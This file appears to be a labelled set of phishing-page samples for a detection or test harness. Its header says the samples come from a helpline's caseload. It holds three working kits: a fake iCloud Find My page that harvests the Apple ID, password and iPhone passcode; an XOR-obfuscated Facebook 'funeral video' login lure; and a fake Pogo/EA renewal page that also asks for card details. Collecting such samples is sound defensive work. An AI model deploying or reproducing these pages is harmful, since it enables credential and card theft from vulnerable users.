/**
 * yi- mail, cloud, social, streaming and games account kits from the helpline's caseload.
 */
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, xorHex } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-icloud-lost-iphone-find-my',
  label: 'phishing',
  kind: 'account-kit',
  url: 'https://icloud.com-findmy.locate-device.info/?id=Grandma%27s%20iPhone',
  body: doc({
    title: 'iCloud - Find My',
    lang: 'en-US',
    css: `body{margin:0;font-family:-apple-system,"SF Pro Text","Helvetica Neue",sans-serif;background:#f5f5f7;color:#1d1d1f;text-align:center}
.top{padding:16px;font-size:20px}.map{height:160px;background:linear-gradient(#d9e8c8,#c3d9ea);margin-bottom:20px}
.box{max-width:380px;margin:0 auto;background:#fff;border-radius:18px;padding:30px}
input{width:100%;padding:14px;border:1px solid #d2d2d7;border-radius:12px;font-size:17px;margin:8px 0;box-sizing:border-box}
button{width:100%;padding:14px;border:0;border-radius:12px;background:#0071e3;color:#fff;font-size:17px}`,
    body: `<div class="top"> iCloud</div><div class="map"></div>
<div class="box"><h2>Your lost iPhone has been found</h2><p id="d">Grandma's iPhone was located today at 11:42 AM.</p><p>Sign in with your Apple ID to view its location.</p>
<form id="ap"><input name="appleId" placeholder="Apple ID"><input name="pwd" type="password" placeholder="Password"><input name="passcode" type="password" placeholder="iPhone passcode" inputmode="numeric"><button>Sign In</button></form></div>
<script>
var id=new URLSearchParams(location.search).get('id');if(id)document.getElementById('d').textContent=id+' was located today at 11:42 AM.';
document.getElementById('ap').addEventListener('submit',function(e){e.preventDefault();
fetch('/api/v2/collect',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(new FormData(this)).toString()+'&device='+encodeURIComponent(id||'')}).then(function(r){return r.json()}).then(function(j){location.href=j.next||'https://www.icloud.com/find'})});
</script>`,
  }),
  routes: { 'icloud.com-findmy.locate-device.info/api/v2/collect': jsonRoute({ status: 'ok', next: 'https://www.icloud.com/find' }) },
},
{
  id: 'yi-facebook-tagged-funeral-video-xor',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://fb-watch.video-tagged.com/watch/?v=1029384756&from=messenger',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Facebook</title></head><body>
<script>
(function(){var h="${xorHex(`<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5}.c{max-width:396px;margin:60px auto;text-align:center}.c h1{color:#1877f2;font-size:54px;margin:0}.b{background:#fff;border-radius:8px;box-shadow:0 2px 4px #0002,0 8px 16px #0001;padding:16px;margin-top:16px}.b input{width:100%;padding:14px;border:1px solid #dddfe2;border-radius:6px;font-size:17px;margin-bottom:12px;box-sizing:border-box}.b button{width:100%;background:#1877f2;color:#fff;border:0;border-radius:6px;font-size:20px;font-weight:700;padding:12px}.v{background:#000;color:#fff;border-radius:8px;padding:50px 10px}</style><div class="c"><h1>facebook</h1><div class="v">▶ Is this you in this video? 😢 R.I.P.</div><div class="b"><p>Log in to Facebook to watch this video</p><form method="post" action="/watch/login.php"><input name="email" placeholder="Email address or phone number"><input type="password" name="pass" placeholder="Password"><button>Log in</button></form><p><a href="#">Forgotten password?</a></p></div></div>`, 0x5a)}",k=0x5a,o="";
for(var i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16)^k);
document.body.insertAdjacentHTML('afterbegin',decodeURIComponent(escape(o)));})();
</script></body></html>`,
},
{
  id: 'yi-pogo-club-renewal-ea-login',
  label: 'phishing',
  kind: 'games-kit',
  url: 'https://pogo-club-renew.com/signin/ea-account',
  routes: {
    'pogo-club-renew.com/signin/ea-account': redirectRoute(302, 'https://pogo-club-renew.com/signin/ea-account/login.html?fid=club'),
    'pogo-club-renew.com/signin/ea-account/login.html': htmlRoute(doc({
      title: 'EA Login | Pogo',
      lang: 'en-US',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#1e1e3c;color:#fff}.c{max-width:400px;margin:50px auto;background:#fff;color:#222;border-radius:8px;padding:30px}
.t{font-size:30px;font-weight:800;color:#ff4747;text-align:center}.s{text-align:center;color:#666}
input{width:100%;padding:12px;margin:8px 0;border:1px solid #aaa;border-radius:4px;box-sizing:border-box;font-size:16px}button{width:100%;padding:13px;background:#ff4747;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:700}
.b{background:#fff4d6;padding:10px;border-radius:4px;font-size:14px}`,
      body: `<div class="c"><div class="t">pogo</div><p class="s">Sign in with your EA Account</p>
<p class="b">Your Club Pogo membership could not be renewed. Your badges, gems and 9 years of game history will be removed on Friday. Sign in to keep them.</p>
<form method="post" action="/signin/ea-account/auth.php"><input name="email" type="email" placeholder="Email"><input name="password" type="password" placeholder="Password">
<input name="card" placeholder="Card number to renew ($39.99/yr)"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button>Sign in and renew</button></form></div>`,
    })),
  },
},
];
